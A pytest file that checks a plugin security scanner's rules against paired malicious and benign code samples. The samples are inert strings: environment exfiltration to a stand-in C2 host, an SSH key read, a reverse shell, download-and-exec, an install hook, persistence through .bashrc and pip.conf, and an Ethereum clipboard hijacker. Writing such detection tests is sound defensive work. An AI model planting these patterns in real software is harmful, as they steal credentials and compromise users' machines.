"""Every engine rule: a malicious sample that trips it and a benign twin using the same API that does not.

Samples are inert strings (never executed); hosts are ``*.invalid`` or 127.0.0.1. Each sample is
one source literal on one line so the table reads as pairs, hence the long lines.
"""

# ruff: noqa: E501

from __future__ import annotations

from typing import Any

import pytest

from automatos.kernel.types import Severity
from tests.scanning.conftest import scan

C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW

# (rule, malicious source, expected severity, expected line, permissions, benign twin source, twin permissions)
CASES: list[tuple[str, str, Severity, int, dict[str, Any], str, dict[str, Any]]] = [
    (
        "obfuscated-exec",
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n",
        C,
        2,
        {},
        "import base64\ndef logo():\n    return base64.b64decode('aGVsbG8=').decode()\n",
        {},
    ),
    (
        "obfuscated-call",
        "import os\ndef go():\n    getattr(os, 'sys' + 'tem')('id')\n",
        C,
        3,
        {},
        "import os\ndef cwd():\n    return getattr(os, 'getcwd')()\n",
        {},
    ),
    (
        "exfiltration",
        "import os, requests\ndef go():\n    requests.post('https://c2.invalid/x', json=dict(os.environ))\n",
        C,
        3,
        {"network": ["api.weather.invalid"]},
        "import os, requests\ndef go(city):\n    key = os.environ['WEATHER_TOKEN']\n"
        "    return requests.get('https://api.weather.invalid/v1', params={'q': city},"
        " headers={'Authorization': key})\n",
        {"network": ["api.weather.invalid"], "env": ["WEATHER_TOKEN"]},
    ),
    (
        "credential-read",
        "import os\ndef go():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
        C,
        3,
        {},
        "import os\ndef go(path):\n    return open(os.path.join(path, 'notes.txt')).read()\n",
        {},
    ),
    (
        "download-exec",
        "import urllib.request\ndef go():\n    exec(urllib.request.urlopen('http://127.0.0.1:8000/a').read())\n",
        C,
        3,
        {},
        "import json, urllib.request\ndef go():\n    return json.loads(urllib.request.urlopen('https://api.notes.invalid/r').read())\n",
        {"network": ["api.notes.invalid"]},
    ),
    (
        "reverse-shell",
        "import os, pty, socket\ndef go():\n    s = socket.socket()\n    s.connect(('127.0.0.1', 4444))\n"
        "    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n",
        C,
        5,
        {},
        "import socket\ndef up(host):\n    s = socket.socket()\n    s.connect((host, 443))\n    s.close()\n    return True\n",
        {"network": ["status.invalid"]},
    ),
    (
        "install-hook",
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "class Post(install):\n    def run(self):\n        install.run(self)\n        __import__('os').system('id')\n"
        "setup(name='x', cmdclass={'install': Post})\n",
        C,
        3,
        {},
        "from setuptools import setup\nsetup(name='x', version='1')\n",
        {},
    ),
    (
        "persistence",
        "import os\ndef go():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n        f.write('alias ls=x')\n",
        C,
        3,
        {},
        "import os\ndef go(root):\n    with open(os.path.join(root, 'settings.ini'), 'a') as f:\n        f.write('a=1')\n",
        {},
    ),
    (
        "crypto-miner",
        "POOL = 'stratum+tcp://pool.invalid:3333'\ndef go():\n    return POOL\n",
        C,
        1,
        {},
        "POOL = 'tcp://db.invalid:5432'\ndef go():\n    return POOL\n",
        {},
    ),
    (
        "process-spawn",
        "import subprocess\ndef go():\n    subprocess.run(['curl', 'http://127.0.0.1/'])\n",
        H,
        3,
        {},
        "import subprocess\ndef go(d):\n    return subprocess.run(['git', '-C', d, 'log'], capture_output=True)\n",
        {"subprocess": ["git"]},
    ),
    (
        "network-access",
        "import httpx\ndef go():\n    return httpx.get('https://other.invalid/')\n",
        H,
        3,
        {"network": ["api.example.invalid"]},
        "import httpx\ndef go():\n    return httpx.get('https://api.example.invalid/v1')\n",
        {"network": ["api.example.invalid"]},
    ),
    (
        "import-time-side-effect",
        "import threading\ndef beat():\n    pass\nthreading.Thread(target=beat, daemon=True).start()\n",
        H,
        4,
        {},
        "import threading\ndef beat():\n    pass\ndef start():\n    threading.Thread(target=beat, daemon=True).start()\n",
        {},
    ),
    (
        "dynamic-exec",
        "def calc(expr):\n    return eval(expr)\n",
        H,
        2,
        {},
        "import ast\ndef calc(expr):\n    return ast.literal_eval(expr)\n",
        {},
    ),
    (
        "dynamic-import",
        "import importlib\ndef load(name):\n    return importlib.import_module(name)\n",
        H,
        3,
        {},
        "import importlib\ndef load():\n    return importlib.import_module('json')\n",
        {},
    ),
    (
        "dynamic-getattr",
        "import os\ndef call(name, arg):\n    return getattr(os, name)(arg)\n",
        H,
        3,
        {},
        "def call(obj, name):\n    return getattr(obj, name)()\n",
        {},
    ),
    (
        "builtins-access",
        "def f(n):\n    return __builtins__[n]\n",
        H,
        2,
        {},
        "REG = {}\ndef f(n):\n    return REG[n]\n",
        {},
    ),
    (
        "embedded-deserialise",
        "import pickle\nDATA = b'\\x80\\x04K\\x01.'\ndef go():\n    return pickle.loads(DATA)\n",
        H,
        4,
        {},
        "import pickle\ndef go(blob):\n    return pickle.loads(blob)\n",
        {},
    ),
    (
        "native-code",
        "import ctypes\ndef go():\n    return ctypes.CDLL('libc.so.6')\n",
        H,
        3,
        {},
        "import ctypes, ctypes.util\ndef go():\n    return ctypes.CDLL(ctypes.util.find_library('m'))\n",
        {},
    ),
    (
        "time-gate",
        "import datetime, subprocess\ndef go():\n    if datetime.date.today() > datetime.date(2030, 1, 1):\n"
        "        subprocess.run(['id'])\n",
        C,
        4,
        {},
        "import datetime\ndef go():\n    if datetime.date.today() > datetime.date(2030, 1, 1):\n        return 'late'\n",
        {},
    ),
    (
        "anti-analysis",
        "import os, subprocess\ndef go():\n    if os.environ.get('CI'):\n        return\n    subprocess.run(['id'])\n",
        H,
        5,
        {},
        "import os\ndef go():\n    if os.environ.get('CI'):\n        return 'ci'\n    return 'local'\n",
        {},
    ),
    (
        "env-access",
        "import os\ndef go():\n    return os.environ['GITHUB_TOKEN']\n",
        H,
        3,
        {},
        "import os\ndef go():\n    return os.environ['GITHUB_TOKEN']\n",
        {"env": ["GITHUB_TOKEN"]},
    ),
    (
        "clipboard-hijack",
        "import re, pyperclip\nETH = re.compile(r'0x[a-fA-F0-9]{40}')\ndef tick():\n    text = pyperclip.paste()\n    pyperclip.copy(ETH.sub('0x52908400098527886E0F7030069857D2E4169EE7', text))\n",
        C,
        5,
        {},
        "import re, pyperclip\nETH = re.compile(r'^0x[a-fA-F0-9]{40}$')\ndef check(address):\n    return bool(ETH.match(address))\ndef tidy():\n    pyperclip.copy(pyperclip.paste().strip())\n",
        {},
    ),
    (
        "embedded-deserialise",
        "import yaml\nfrom pathlib import Path\nRULES = yaml.load((Path(__file__).parent / 'rules.yaml').read_text(), Loader=yaml.UnsafeLoader)\n",
        C,
        3,
        {},
        "import yaml\nfrom pathlib import Path\nRULES = yaml.load((Path(__file__).parent / 'rules.yaml').read_text(), Loader=yaml.SafeLoader)\n",
        {},
    ),
    (
        "dynamic-exec",
        "import types, marshal\ndef run(blob):\n    return types.FunctionType(marshal.loads(blob), {})()\n",
        H,
        3,
        {},
        "import types\ndef run(fn):\n    return isinstance(fn, types.FunctionType)\n",
        {},
    ),
    (
        "dynamic-import",
        "import importlib\ndef load(kind):\n    return importlib.import_module(kind)\n",
        H,
        3,
        {},
        "import importlib\nFORMATS = {'csv': 'plug.fmt_csv', 'ini': 'plug.fmt_ini'}\ndef load(kind):\n    return importlib.import_module(FORMATS[kind])\n",
        {},
    ),
    (
        "download-exec",
        "import os, sys, tempfile, importlib, httpx\ndef core():\n    path = os.path.join(tempfile.gettempdir(), 'core.zip')\n    with open(path, 'wb') as fh:\n        fh.write(httpx.get('http://127.0.0.1:8000/core.zip').content)\n    sys.path.insert(0, path)\n    return importlib.import_module('core')\n",
        C,
        5,
        {"network": ["127.0.0.1"]},
        "import os, tempfile, httpx\ndef save():\n    path = os.path.join(tempfile.gettempdir(), 'notes.json')\n    with open(path, 'wb') as fh:\n        fh.write(httpx.get('http://127.0.0.1:8000/notes.json').content)\n    return path\n",
        {"network": ["127.0.0.1"]},
    ),
    (
        "persistence",
        "import os\ndef fix(root):\n    path = os.path.join(root, 'pip', 'pip.conf')\n    with open(path, 'w') as fh:\n        fh.write('[global]\\nextra-index-url = http://127.0.0.1:8000/simple/\\n')\n",
        C,
        4,
        {},
        "import os\ndef show(root):\n    path = os.path.join(root, 'pip', 'pip.conf')\n    with open(path) as fh:\n        return fh.read()\n",
        {},
    ),
    (
        "kernel-internals",
        "from automatos.kernel.registry import Registry\n",
        M,
        1,
        {},
        "from automatos import hookimpl\n",
        {},
    ),
]


@pytest.mark.parametrize(
    ("rule", "bad", "severity", "line", "perms", "good", "good_perms"), CASES, ids=[c[0] for c in CASES]
)
def test_rule_flags_malicious_and_spares_twin(
    rule: str, bad: str, severity: Severity, line: int, perms: dict[str, Any], good: str, good_perms: dict[str, Any]
) -> None:
    path = "setup.py" if rule == "install-hook" else "plug/__init__.py"
    report = scan({path: bad}, perms)
    hits = [f for f in report.findings if f.rule == rule]
    assert hits, f"{rule} missed: {[(f.rule, f.message) for f in report.findings]}"
    assert (hits[0].severity, hits[0].line, hits[0].reachable, hits[0].declared) == (severity, line, True, False)
    twin = scan({path: good}, good_perms)
    serious = {Severity.MEDIUM, Severity.HIGH, Severity.CRITICAL}
    assert [f for f in twin.findings if f.rule == rule and not f.declared and f.severity in serious] == []
    assert twin.verdict.value == "safe", [(f.rule, f.message) for f in twin.findings]


def test_pth_line_that_runs_code_is_critical_and_path_lines_are_not() -> None:
    bad = scan({"evil.pth": "/opt/lib\nimport os; os.system('id')\n"})
    hit = next(f for f in bad.findings if f.rule == "pth-exec")
    assert (hit.severity, hit.line, hit.path) == (C, 2, "evil.pth")
    good = scan({"paths.pth": "/opt/lib\nimport sys; sys.path.insert(0, '/opt/x')\n"})
    assert [f.rule for f in good.findings] == []


def test_unparsable_source_is_critical() -> None:
    report = scan({"plug/__init__.py": "def broken(:\n"})
    assert [(f.rule, f.severity, f.line) for f in report.findings] == [("unparsable", C, 1)]


def test_declared_capabilities_weigh_half_and_stay_safe() -> None:
    source = """
        import os, requests
        def go():
            token = os.environ["NOTES_TOKEN"]
            return requests.get("https://api.notes.invalid/x", headers={"Authorization": token})
    """
    report = scan({"plug/__init__.py": source}, {"network": ["api.notes.invalid"], "env": ["NOTES_TOKEN"]})
    assert report.risk_score < 20 and report.verdict.value == "safe"
    assert all(f.declared for f in report.findings if f.rule in {"network-access", "env-access"})
    undeclared = scan({"plug/__init__.py": source})
    assert undeclared.risk_score >= 70
    assert any(f.rule == "exfiltration" and f.severity is C for f in undeclared.findings)
